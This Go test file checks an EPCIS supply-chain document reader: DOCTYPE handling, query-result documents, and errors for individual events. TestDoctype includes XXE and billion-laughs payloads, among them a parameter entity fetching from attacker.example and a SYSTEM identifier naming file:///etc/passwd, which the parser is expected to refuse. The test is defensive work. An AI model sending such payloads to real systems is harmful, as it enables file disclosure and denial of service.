package document_test

import (
	"strings"
	"testing"

	"github.com/deadletter/deadletter/shared/codes"
	"github.com/deadletter/deadletter/shared/domain/dscsa"
	"github.com/deadletter/deadletter/shared/domain/dscsa/document"
	"github.com/deadletter/deadletter/shared/gate"
)

// xmlShipment is an EPCIS 2.0 XML document of one shipping event, with
// prolog (an XML declaration, then whatever a test puts in its place).
func xmlShipment(prolog string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + prolog + `
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:example="https://ns.example.com/epcis/" schemaVersion="2.0" creationDate="2024-03-12T14:20:00Z">
  <EPCISBody><EventList>
    <ObjectEvent>
      <eventTime>2024-03-12T09:15:00.118-05:00</eventTime>
      <eventTimeZoneOffset>-05:00</eventTimeZoneOffset>
      <epcList><epc>urn:epc:id:sgtin:0614141.012345.10016550749981</epc></epcList>
      <action>OBSERVE</action>
      <bizStep>shipping</bizStep>
      <readPoint><id>urn:epc:id:sgln:0614141.00777.0</id></readPoint>
      <example:shipTo>Müller &amp; Söhne &lt;Großhandel&gt; / 陈伟</example:shipTo>
    </ObjectEvent>
  </EventList></EPCISBody>
</epcis:EPCISDocument>`
}

// TestDoctype: a document type declaration that declares nothing (a name,
// no internal subset, no external identifier), as GS1's own examples
// carry, is read; anything that could declare an entity is refused
// MALFORMED_DOCUMENT.
func TestDoctype(t *testing.T) {
	tests := []struct {
		name, prolog string
		ok           bool
	}{
		{"no DOCTYPE", "", true},
		{"bare DOCTYPE project (GS1's examples)", `<!DOCTYPE project>`, true},
		{"bare DOCTYPE naming the root", `<!DOCTYPE epcis:EPCISDocument>`, true},
		{"bare DOCTYPE with white space and line breaks", "<!DOCTYPE\n\tproject  \r\n>", true},
		{"bare DOCTYPE with a non-ASCII name", `<!DOCTYPE lieferschein_Müller>`, true},
		{"bare DOCTYPE after a comment", "<!-- Müller & Söhne -->\n<!DOCTYPE project>", true},
		{"empty internal subset", `<!DOCTYPE project []>`, false},
		{"internal subset with an entity", `<!DOCTYPE project [<!ENTITY co "Müller &amp; Söhne">]>`, false},
		{"billion laughs", `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>`, false},
		{"parameter entity", `<!DOCTYPE project [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>`, false},
		{"SYSTEM identifier", `<!DOCTYPE project SYSTEM "http://attacker.example/epcis.dtd">`, false},
		{"SYSTEM identifier, file", `<!DOCTYPE project SYSTEM "file:///etc/passwd">`, false},
		{"PUBLIC identifier", `<!DOCTYPE project PUBLIC "-//GS1//DTD EPCIS//EN" "epcis.dtd">`, false},
		{"ENTITY declaration outside a DOCTYPE", `<!ENTITY co "Müller">`, false},
		{"two DOCTYPEs", "<!DOCTYPE project>\n<!DOCTYPE project>", false},
		{"DOCTYPE without a name", `<!DOCTYPE >`, false},
		{"lowercase doctype", `<!doctype project>`, false},
		{"name beginning with a digit", `<!DOCTYPE 1project>`, false},
		{"name followed by a quoted string", `<!DOCTYPE project "x">`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			doc, err := document.Read([]byte(xmlShipment(tt.prolog)))
			if tt.ok {
				if err != nil {
					t.Fatalf("Read: %v", err)
				}
				if len(doc.Events) != 1 || !strings.Contains(string(doc.Events[0]), `"bizStep":"shipping"`) {
					t.Fatalf("events %q", doc.Events)
				}
				return
			}
			if codes.Of(err) != dscsa.MalformedDocument {
				t.Fatalf("Read = %v; want MALFORMED_DOCUMENT", err)
			}
			if d := codes.DetailOf(err); strings.Contains(d, "attacker") || strings.Contains(d, "Müller") || strings.Contains(d, "passwd") {
				t.Errorf("detail %q quotes the document", d)
			}
		})
	}
	t.Run("DOCTYPE after the root element", func(t *testing.T) {
		data := strings.Replace(xmlShipment(""), "<EPCISBody>", "<!DOCTYPE project><EPCISBody>", 1)
		if _, err := document.Read([]byte(data)); codes.Of(err) != dscsa.MalformedDocument {
			t.Fatalf("Read = %v; want MALFORMED_DOCUMENT", err)
		}
	})
}

// queryEvents are two events as an EPCIS query returns them: a
// commissioning of a lot and its shipping.
const queryEventsJSON = `[
  {"type": "ObjectEvent", "eventTime": "2024-03-11T14:02:11.350Z", "eventTimeZoneOffset": "-05:00",
   "epcList": ["urn:epc:id:sgtin:0614141.012345.1001"], "action": "ADD", "bizStep": "commissioning",
   "disposition": "active", "readPoint": {"id": "urn:epc:id:sgln:0614141.00777.0"},
   "ilmd": {"cbvmda:lotNumber": "A24B017&<2>", "cbvmda:itemExpirationDate": "2026-01-31"}},
  {"type": "ObjectEvent", "eventTime": "2024-03-12T09:15:00.118-05:00", "eventTimeZoneOffset": "-05:00",
   "epcList": ["urn:epc:id:sgtin:0614141.012345.1001"], "action": "OBSERVE", "bizStep": "shipping",
   "disposition": "in_transit", "readPoint": {"id": "urn:epc:id:sgln:0614141.00777.0"},
   "example:shipTo": "Müller & Söhne \"Großhandel\""}
]`

const queryEventsXML = `
    <ObjectEvent>
      <eventTime>2024-03-11T14:02:11.350Z</eventTime><eventTimeZoneOffset>-05:00</eventTimeZoneOffset>
      <epcList><epc>urn:epc:id:sgtin:0614141.012345.1001</epc></epcList>
      <action>ADD</action><bizStep>commissioning</bizStep><disposition>active</disposition>
      <readPoint><id>urn:epc:id:sgln:0614141.00777.0</id></readPoint>
      <ilmd><cbvmda:lotNumber>A24B017&amp;&lt;2&gt;</cbvmda:lotNumber><cbvmda:itemExpirationDate>2026-01-31</cbvmda:itemExpirationDate></ilmd>
    </ObjectEvent>
    <ObjectEvent>
      <eventTime>2024-03-12T09:15:00.118-05:00</eventTime><eventTimeZoneOffset>-05:00</eventTimeZoneOffset>
      <epcList><epc>urn:epc:id:sgtin:0614141.012345.1001</epc></epcList>
      <action>OBSERVE</action><bizStep>shipping</bizStep><disposition>in_transit</disposition>
      <readPoint><id>urn:epc:id:sgln:0614141.00777.0</id></readPoint>
      <example:shipTo>Müller &amp; Söhne "Großhandel"</example:shipTo>
    </ObjectEvent>`

// TestQueryDocument: an EPCISQueryDocument (the result of an EPCIS
// query: events under epcisBody.queryResults.resultsBody.eventList) is
// read as an EPCISDocument with the same events is, in JSON and in XML
// (EPCIS 2.0 and 1.2 query namespaces), whatever the order of the
// members around the list.
func TestQueryDocument(t *testing.T) {
	const ctx = `"@context": ["https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld", {"example": "https://ns.example.com/epcis/"}]`
	xmlDoc := func(root, ns, body string) string {
		return `<?xml version="1.0" encoding="UTF-8"?>
<` + root + ` xmlns:epcisq="` + ns + `" xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:cbvmda="urn:epcglobal:cbv:mda" xmlns:example="https://ns.example.com/epcis/" schemaVersion="2.0" creationDate="2024-03-12T14:20:00Z">
  <EPCISBody>` + body + `</EPCISBody>
</` + strings.Fields(root)[0] + `>`
	}
	plain, err := document.Read([]byte(`{` + ctx + `, "type": "EPCISDocument", "schemaVersion": "2.0", "epcisBody": {"eventList": ` + queryEventsJSON + `}}`))
	if err != nil {
		t.Fatal(err)
	}
	plainXML, err := document.Read([]byte(xmlDoc("epcis:EPCISDocument", "urn:epcglobal:epcis-query:xsd:2", `<EventList>`+queryEventsXML+`</EventList>`)))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, doc string
		want      *document.Document
	}{
		{"JSON", `{` + ctx + `, "type": "EPCISQueryDocument", "schemaVersion": "2.0", "creationDate": "2024-03-12T14:20:00Z",
			"epcisBody": {"queryResults": {"subscriptionID": "sub-Müller-&-Söhne", "queryName": "SimpleEventQuery",
			"resultsBody": {"eventList": ` + queryEventsJSON + `}}}}`, plain},
		{"JSON, resultsBody before queryName", `{"type": "EPCISQueryDocument", ` + ctx + `,
			"epcisBody": {"queryResults": {"resultsBody": {"eventList": ` + queryEventsJSON + `}, "queryName": "SimpleEventQuery"}}}`, plain},
		{"XML 2.0", xmlDoc("epcisq:EPCISQueryDocument", "urn:epcglobal:epcis-query:xsd:2",
			`<epcisq:QueryResults><queryName>SimpleEventQuery</queryName><subscriptionID>sub-1</subscriptionID><resultsBody><EventList>`+
				queryEventsXML+`</EventList></resultsBody></epcisq:QueryResults>`), plainXML},
		{"XML 1.2", strings.Replace(xmlDoc("epcisq:EPCISQueryDocument", "urn:epcglobal:epcis-query:xsd:1",
			`<epcisq:QueryResults><queryName>SimpleEventQuery</queryName><resultsBody><EventList>`+
				queryEventsXML+`</EventList></resultsBody></epcisq:QueryResults>`), `schemaVersion="2.0"`, `schemaVersion="1.2"`, 1), plainXML},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			doc, err := document.Read([]byte(tt.doc))
			if err != nil {
				t.Fatalf("Read: %v", err)
			}
			if doc.Count != 2 || len(doc.Events) != 2 {
				t.Fatalf("count %d, %d events", doc.Count, len(doc.Events))
			}
			for i := range doc.Events {
				if string(doc.Events[i]) != string(tt.want.Events[i]) {
					t.Errorf("event %d:\n got %s\nwant %s", i, doc.Events[i], tt.want.Events[i])
				}
			}
		})
	}
	refused := []struct{ name, doc string }{
		{"resultsBody not an object", `{"type":"EPCISQueryDocument","epcisBody":{"queryResults":{"resultsBody":[]}}}`},
		{"queryResults not an object", `{"type":"EPCISQueryDocument","epcisBody":{"queryResults":"x"}}`},
		{"eventList not an array", `{"type":"EPCISQueryDocument","epcisBody":{"queryResults":{"resultsBody":{"eventList":{}}}}}`},
		{"no eventList", `{"type":"EPCISQueryDocument","epcisBody":{"queryResults":{"resultsBody":{}}}}`},
		{"two resultsBody", `{"type":"EPCISQueryDocument","epcisBody":{"queryResults":{"resultsBody":{"eventList":[]},"resultsBody":{"eventList":[]}}}}`},
		{"two eventLists", `{"type":"EPCISQueryDocument","epcisBody":{"queryResults":{"resultsBody":{"eventList":[],"eventList":[{}]}}}}`},
		{"duplicate epcisBody member", `{"type":"EPCISDocument","epcisBody":{"eventList":[],"eventList":[]}}`},
		{"duplicate @context member", `{"@context":{"ex":"urn:a:","ex":"urn:b:"},"type":"EPCISDocument","epcisBody":{"eventList":[]}}`},
	}
	for _, tt := range refused {
		t.Run("refused/"+tt.name, func(t *testing.T) {
			if doc, err := document.Read([]byte(tt.doc)); codes.Of(err) != dscsa.MalformedDocument {
				t.Fatalf("Read = %+v, %v; want MALFORMED_DOCUMENT", doc, err)
			}
		})
	}
}

// TestEventsTheGateDoesNotTake: an event the gate refuses by itself (an
// event type the domain does not take, an event with a duplicate member
// name) inside a valid document is that one event's error; the
// document is read and the other events go on.
func TestEventsTheGateDoesNotTake(t *testing.T) {
	g, err := gate.New(0)
	if err != nil {
		t.Fatal(err)
	}
	const ship = `{"type": "ObjectEvent", "eventTime": "2024-03-12T09:15:00.118-05:00", "eventTimeZoneOffset": "-05:00",
	   "epcList": ["urn:epc:id:sgtin:0614141.012345.1001"], "action": "OBSERVE", "bizStep": "shipping",
	   "disposition": "in_transit", "readPoint": {"id": "urn:epc:id:sgln:0614141.00777.0"}}`
	const assoc = `{"type": "AssociationEvent", "eventTime": "2024-03-12T09:20:00Z", "eventTimeZoneOffset": "-05:00",
	   "parentID": "urn:epc:id:grai:0614141.55555.987", "childEPCs": ["urn:epc:id:giai:0614141.00001"],
	   "action": "ADD", "bizStep": "assembling", "readPoint": {"id": "urn:epc:id:sgln:0614141.00777.0"}}`
	const xmlShip = `<ObjectEvent><eventTime>2024-03-12T09:15:00.118-05:00</eventTime><eventTimeZoneOffset>-05:00</eventTimeZoneOffset>
	  <epcList><epc>urn:epc:id:sgtin:0614141.012345.1001</epc></epcList><action>OBSERVE</action><bizStep>shipping</bizStep>
	  <disposition>in_transit</disposition><readPoint><id>urn:epc:id:sgln:0614141.00777.0</id></readPoint></ObjectEvent>`
	jsonDoc := func(events ...string) string {
		return `{"@context": ["https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld"], "type": "EPCISDocument",
		  "schemaVersion": "2.0", "creationDate": "2024-03-12T14:20:00Z", "epcisBody": {"eventList": [` + strings.Join(events, ",") + `]}}`
	}
	xmlDoc := func(ns string, events ...string) string {
		return `<epcis:EPCISDocument xmlns:epcis="` + ns + `" xmlns:example="https://ns.example.com/epcis/"><EPCISBody><EventList>` +
			strings.Join(events, "") + `</EventList></EPCISBody></epcis:EPCISDocument>`
	}
	tests := []struct {
		name string
		doc  string
		want []codes.Code
	}{
		{"JSON AssociationEvent", jsonDoc(ship, assoc, ship), []codes.Code{"", dscsa.UnsupportedEventType, ""}},
		{"JSON unknown event type", jsonDoc(`{"type": "ex:LieferscheinEvent", "eventTime": "2024-03-12T09:20:00Z", "example:name": "Müller & Söhne"}`, ship),
			[]codes.Code{dscsa.UnsupportedEventType, ""}},
		{"JSON event without a type (the schema requires one)", jsonDoc(ship, `{"eventTime": "2024-03-12T09:20:00Z"}`), []codes.Code{"", codes.SchemaValidation}},
		{"JSON AssociationEvent with a duplicate member (GS1's AssociationEvent-h)",
			jsonDoc(strings.Replace(assoc, `"type"`, `"eventID": "urn:uuid:fd338495-0e6d-41dd-afee-a862ecd32518", "eventID": "urn:uuid:0b6ec5a4-5b1c-4f0c-9d3e-2f1bd1ad0b3a", "type"`, 1), ship),
			[]codes.Code{codes.DuplicateKey, ""}},
		{"JSON event with a lone surrogate escape", jsonDoc(`{"type": "ObjectEvent", "example:name": "\ud800"}`, ship), []codes.Code{codes.MalformedJSON, ""}},
		{"JSON event that is not an object", jsonDoc(`"ObjectEvent"`, ship), []codes.Code{codes.NotAnObject, ""}},
		{"XML 2.0 AssociationEvent", xmlDoc("urn:epcglobal:epcis:xsd:2", xmlShip, `<AssociationEvent><eventTime>2024-03-12T09:20:00Z</eventTime>
		  <eventTimeZoneOffset>-05:00</eventTimeZoneOffset><parentID>urn:epc:id:grai:0614141.55555.987</parentID>
		  <childEPCs><epc>urn:epc:id:giai:0614141.00001</epc></childEPCs><action>ADD</action></AssociationEvent>`, xmlShip),
			[]codes.Code{"", dscsa.UnsupportedEventType, ""}},
		{"XML 1.2 AssociationEvent in an extension", xmlDoc("urn:epcglobal:epcis:xsd:1", `<extension><AssociationEvent><eventTime>2024-03-12T09:20:00Z</eventTime>
		  <eventTimeZoneOffset>-05:00</eventTimeZoneOffset><action>ADD</action></AssociationEvent></extension>`, xmlShip),
			[]codes.Code{dscsa.UnsupportedEventType, ""}},
		{"XML unknown event type", xmlDoc("urn:epcglobal:epcis:xsd:2", `<example:LieferscheinEvent><example:name>Müller &amp; Söhne</example:name></example:LieferscheinEvent>`, xmlShip),
			[]codes.Code{dscsa.UnsupportedEventType, ""}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			doc, err := document.Read([]byte(tt.doc))
			if err != nil {
				t.Fatalf("Read: %v", err)
			}
			if len(doc.Events) != len(tt.want) {
				t.Fatalf("%d events, want %d", len(doc.Events), len(tt.want))
			}
			for i, ev := range doc.Events {
				if r := check(t, g, ev); r.code != tt.want[i] {
					t.Errorf("event %d: code %q, want %q\n%s", i, r.code, tt.want[i], ev)
				}
			}
		})
	}
}
